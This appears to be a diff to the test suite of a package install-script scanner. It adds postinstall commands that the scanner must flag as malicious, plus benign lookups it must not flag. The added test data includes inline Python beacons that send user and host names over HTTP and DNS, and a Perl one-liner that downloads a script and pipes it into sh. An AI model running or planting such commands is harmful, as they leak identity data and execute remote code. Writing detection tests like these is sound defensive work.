@@ -255,6 +255,10 @@ def test_no_scripts_no_findings():
     # blind set 35: the dependency-confusion beacon in inline Python, no JavaScript at all
     "python3 -c \"import urllib.request as r,urllib.parse as p,socket,getpass;"
     "d=p.urlencode({'h':socket.gethostname(),'u':getpass.getuser()});r.urlopen('http://198.51.100.23/c?'+d)\" || true",
+    # blind set 52: the same beacon as a DNS lookup of a name made of the user and host names
+    "python3 -c \"import socket,getpass;socket.gethostbyname(getpass.getuser()+'.'+socket.gethostname()+'.l99.oast.example')\" || exit 0",
+    # blind set 52: a typosquat's download read by inline Perl and piped into a shell
+    "perl -MHTTP::Tiny -e 'print HTTP::Tiny->new(timeout=>8)->get(q{http://203.0.113.9/bp/init.sh})->{content}' 2>/dev/null | sh",
 ])
 def test_reverse_shells_and_beacons_are_malicious_alone(command):
     assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
@@ -266,6 +270,15 @@ def test_reverse_shells_and_beacons_are_malicious_alone(command):
 ])
 def test_a_socket_read_nothing_runs_is_no_download_that_runs(command):
     assert "install-script/fetch-and-execute" not in rules(artifact({"install": command}))
+
+
+@pytest.mark.parametrize("command", [
+    # inline code that looks a name up or downloads, with no user or host name sent and nothing piped into a shell
+    "python3 -c \"import socket;socket.gethostbyname('registry.npmjs.org')\" || echo offline",
+    "perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get(q{https://example.org/VERSION})->{content}' > VERSION",
+])
+def test_inline_lookups_and_downloads_alone_are_no_beacon_or_cradle(command):
+    assert not {"install-script/beacon", "install-script/fetch-and-execute"} & rules(artifact({"install": command}))
 
 
 @pytest.mark.parametrize("command", [
